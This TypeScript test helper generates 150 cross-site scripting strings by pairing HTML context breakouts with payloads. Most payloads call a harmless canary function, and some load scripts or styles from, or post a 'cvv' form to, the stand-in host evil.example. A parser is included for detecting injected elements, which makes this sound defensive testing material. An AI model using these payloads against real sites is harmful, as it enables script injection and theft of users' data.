/** Texts that try to become markup or code: each way out of a place, with each thing to do once outside. */
const WAYS_OUT = [
  '',
  '">',
  "'>",
  '</title>',
  '</script>',
  '</SCRIPT\t x>',
  '</style >',
  '--></script>',
  '<!--<script>',
  ']]>"\'`\\u003c/script\\u003e',
] as const;

const DEEDS = [
  '<script>canary()</script>',
  '<script src=//evil.example></script>',
  '<img src=x onerror=canary()>',
  '<svg/onload=canary()>',
  '<svg><script>canary()</script></svg>',
  '<iframe srcdoc="<script>parent.canary()</script>">',
  '<a href="javascript:canary()">x</a>',
  '<style>@import"//evil.example"</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=javascript:canary()">',
  '<base href=//evil.example>',
  '<form action=//evil.example><input name=cvv>',
  '<object data=javascript:canary()></object>',
  '" autofocus onfocus="canary()',
  "';canary();//\u2028$\u007bcanary()}",
] as const;

/** 150 of them. */
export const HOSTILE: readonly string[] = WAYS_OUT.flatMap((way) => DEEDS.map((deed) => way + deed));

/** One element of a page: its name and its attributes. */
export interface PageElement {
  readonly tag: string;
  readonly attributes: Readonly<Record<string, string>>;
}

/** What a page holds for a parser that works as browsers do: its elements in order, and the text of some. */
export function parsePage(html: string): {
  readonly elements: readonly PageElement[];
  readonly texts: readonly string[];
} {
  const elements: PageElement[] = [];
  const texts: string[] = [];
  const raw: { text: string }[] = [];
  new HTMLRewriter()
    .on('*', {
      element: (element) => {
        elements.push({ tag: element.tagName, attributes: Object.fromEntries(element.attributes) });
        if (['script', 'style', 'title'].includes(element.tagName)) {
          raw.push({ text: '' });
        }
      },
    })
    .on('script, style, title', {
      text: (chunk) => {
        const last = raw.at(-1);
        if (last) {
          last.text += chunk.text;
        }
      },
    })
    .transform(html);
  texts.push(...raw.map(({ text }) => text));
  return { elements, texts };
}
